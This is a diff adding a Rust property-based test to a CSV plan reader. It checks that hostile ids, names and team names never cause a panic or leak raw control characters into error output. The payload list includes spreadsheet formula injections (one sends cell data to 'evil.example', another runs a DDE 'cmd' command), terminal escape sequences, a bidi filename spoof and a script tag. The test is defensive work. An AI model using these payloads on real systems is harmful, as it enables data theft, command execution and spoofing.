@@ -730,3 +730,94 @@ proptest! {
         prop_assert!(r.is_ok(), "{}", r.unwrap_err());
     }
 }
+
+// ---------------------------------------------------------------- hostile text
+//
+// Ids, names and team names made to attack whatever shows them: spreadsheet
+// formula prefixes, terminal escapes (C0, C1, DEL), bidi overrides and
+// isolates, zero-width characters, XML specials and characters XML forbids,
+// quotes, line breaks and very long text. tests/hostile.rs checks every
+// output through the CLI; here they go through the plan reader: never a
+// panic, an accepted plan simulates sanely, and a rejection's message,
+// shown the way `main` prints it, holds no raw control character.
+
+const HOSTILE: &[&str] = &[
+    "=HYPERLINK(\"//evil.example/?\"&A1)",
+    "=cmd|'/C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tTab",
+    "\rCR",
+    "\u{1b}[2J\u{1b}[H",
+    "\u{1b}]0;retitled\u{7}",
+    "\u{1b}[31mred\u{1b}[0m",
+    "\u{7}\u{8}\u{7f}",
+    "\u{0}",
+    "\u{9b}31m\u{85}\u{90}",
+    "\u{202e}gpj.exe",
+    "\u{2066}\u{2067}\u{2068}\u{2069}",
+    "zero\u{200b}width\u{200d}\u{feff}",
+    "<script>alert(1)</script>",
+    "&amp;&lt;]]>",
+    "\"quoted\"",
+    "'single'",
+    "\u{b}\u{c}",
+    "\u{fffe}\u{ffff}",
+    "line\nbreak",
+    "é中🙂",
+];
+
+/// A raw character a terminal acts on (see tests/hostile.rs).
+fn acts_on_terminal(c: char) -> bool {
+    (c.is_control() && c != '\n' && c != '\t')
+        || ('\u{202a}'..='\u{202e}').contains(&c)
+        || ('\u{2066}'..='\u{2069}').contains(&c)
+}
+
+/// Hostile text, mostly of pieces the reader accepts in an id (`id`) or a
+/// name, now and then of any piece.
+fn hostile_text(id: bool) -> impl Strategy<Value = String> {
+    let accepted: Vec<&'static str> = HOSTILE
+        .iter()
+        .copied()
+        .filter(|p| !p.contains(['\0', '\n', '\r']))
+        .filter(|p| !id || !p.contains(|c: char| c.is_whitespace() || c == ';' || c == ':'))
+        .collect();
+    let piece = prop_oneof![5 => select(accepted), 1 => select(HOSTILE)];
+    (prop::collection::vec(piece, 1..4), 1..30usize)
+        .prop_map(|(pieces, times)| pieces.concat().repeat(times))
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(CASES))]
+
+    /// Plans whose ids, names and teams are hostile text (numbered to keep
+    /// most ids unique), in a chain through `depends_on` now and then.
+    #[test]
+    fn hostile_ids_names_and_teams_never_panic(
+        rows in prop::collection::vec(
+            (hostile_text(true), hostile_text(false), hostile_text(false), select(NUMBERS), any::<bool>()),
+            1..6,
+        ),
+        numbered in any::<bool>(),
+        seed in any::<u64>(),
+    ) {
+        let mut text = String::from("id,name,team,likely,depends_on\n");
+        let mut prev = String::new();
+        for (i, (id, name, team, likely, chained)) in rows.iter().enumerate() {
+            let id = if numbered { format!("{id}{i}") } else { id.clone() };
+            let dep = if *chained { prev.clone() } else { String::new() };
+            let cells = [id.as_str(), name, team, likely, dep.as_str()];
+            text.push_str(&cells.iter().map(|c| quote(c)).collect::<Vec<_>>().join(","));
+            text.push('\n');
+            prev = id;
+        }
+        parse_and_check(&text, None, seed)?;
+        if let Err(e) = parse_plan("plan.csv", &text, None) {
+            let shown = slipcast::report::inert::visible(&e.to_string()).into_owned();
+            let raw: Vec<char> = shown.chars().filter(|&c| acts_on_terminal(c)).collect();
+            prop_assert!(raw.is_empty(), "raw {raw:?} in {shown:?}");
+        }
+    }
+}
